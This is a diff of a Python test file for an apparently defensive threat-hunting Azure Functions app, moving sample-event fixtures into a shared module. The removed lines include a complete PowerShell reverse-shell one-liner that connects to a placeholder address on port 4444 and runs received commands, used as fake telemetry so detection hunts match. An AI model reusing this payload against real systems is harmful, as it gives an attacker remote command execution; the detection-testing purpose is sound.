@@ -17,7 +17,6 @@ from typing import Any
 
 import azure.functions as func
 import pytest
-from azure.data.tables import TableServiceClient
 from azure.functions.timer import TimerRequest
 
 from devtools.fake_graph import FakeGraph
@@ -27,14 +26,8 @@ from shared.cards import summarize_digest
 from shared.health.notices import health_kind
 from shared.hunt import load_hunts
 from shared.storage import Storage
+from tests.fanout_world import REPO, clear_tables, write_sample_events
 
-REPO = Path(__file__).resolve().parents[1]
-DEVICE = "a1b2c3d4e5f60718293a4b5c6d7e8f9012345678"
-SHELL = ("powershell.exe -nop -c \"$client = New-Object System.Net.Sockets.TCPClient('203.0.113.9',"
-         "4444);$s = $client.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, "
-         "$b.Length)) -ne 0){$d = (New-Object System.Text.ASCIIEncoding).GetString($b,0, $i);"
-         "$r = (iex $d 2>&1 | Out-String );$r2 = $r + 'PS> ';$sb = ([text.encoding]::ASCII)"
-         ".GetBytes($r2);$s.Write($sb,0,$sb.Length);$s.Flush()};$client.Close()\"")
 BROKEN_HUNT = """\
 id: 99999999-0000-0000-0000-000000000001
 name: Broken on the service side
@@ -43,17 +36,6 @@ query: |
   DeviceProcessEvents
   | where NoSuchColumn == "x"
 """
-
-
-def process_event(report_id: int, when: datetime, command: str) -> dict[str, Any]:
-    return {"Timestamp": when.strftime("%Y-%m-%dT%H:%M:%SZ"), "DeviceId": DEVICE,
-            "DeviceName": "ws-0042.contoso.local", "ReportId": report_id,
-            "ActionType": "ProcessCreated", "FileName": "powershell.exe",
-            "FolderPath": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
-            "ProcessCommandLine": command, "AccountDomain": "contoso", "AccountName": "jdoe",
-            "InitiatingProcessFileName": "cmd.exe",
-            "InitiatingProcessCommandLine": "cmd.exe /c start.bat",
-            "InitiatingProcessParentFileName": "winword.exe"}
 
 
 @pytest.fixture(scope="module")
@@ -76,15 +58,11 @@ def user_function(function: Any) -> Callable[[func.TimerRequest], None]:
 def world(tmp_path: Path, storage_connection_string: str,
           monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, Any]]:
     now = datetime.now(UTC).replace(microsecond=0)
-    events = tmp_path / "DeviceProcessEvents.jsonl"
-    rows = [process_event(1, now - timedelta(minutes=50), SHELL),
-            process_event(2, now - timedelta(minutes=40), "powershell.exe Get-Service"),
-            process_event(3, now - timedelta(minutes=30), SHELL.replace("4444", "443"))]
-    events.write_text("".join(json.dumps(r) + "\n" for r in rows))
+    events = write_sample_events(tmp_path / "DeviceProcessEvents.jsonl", now)
     hunts = tmp_path / "hunts"
     shutil.copytree(REPO / "hunts", hunts)
     (hunts / "broken.yaml").write_text(BROKEN_HUNT)
-    _clear_tables(storage_connection_string)
+    clear_tables(storage_connection_string)
     with IdentityServer() as identity, FakeGraph({"DeviceProcessEvents": events}) as graph, \
             WebhookReceiver() as webhook:
         env = {**identity.env, "HUNTWIRE_STORAGE": storage_connection_string,
@@ -97,12 +75,6 @@ def world(tmp_path: Path, storage_connection_string: str,
         function_app.settings.cache_clear()
         yield {"graph": graph, "webhook": webhook, "env": env, "hunts": hunts}
         function_app.settings.cache_clear()
-
-
-def _clear_tables(connection_string: str) -> None:
-    service = TableServiceClient.from_connection_string(connection_string)
-    for table in service.list_tables():
-        service.delete_table(table.name)
 
 
 def run_timer(user_function: Callable[[func.TimerRequest], None]) -> str | None:
